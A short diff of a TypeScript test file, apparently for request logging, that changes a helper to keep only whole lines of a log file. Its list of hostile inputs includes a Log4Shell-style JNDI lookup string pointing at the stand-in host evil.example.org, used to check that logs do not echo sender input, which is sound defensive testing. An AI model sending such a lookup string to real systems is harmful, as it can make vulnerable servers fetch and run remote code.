@@ -58,7 +58,8 @@ const hostile = [
   `${word}\${jndi:ldap://evil.example.org/a}%s%d%o%j`,
 ];
 
-const linesOf = (name: string) => readFileSync(fileOf(name), 'utf8').split('\n').filter(Boolean);
+/** Whole lines: the last may be half written. */
+const linesOf = (name: string) => readFileSync(fileOf(name), 'utf8').split('\n').slice(0, -1);
 
 it('a request leaves one line, with nothing in it that its sender wrote', async () => {
   const { code } = setting.network;
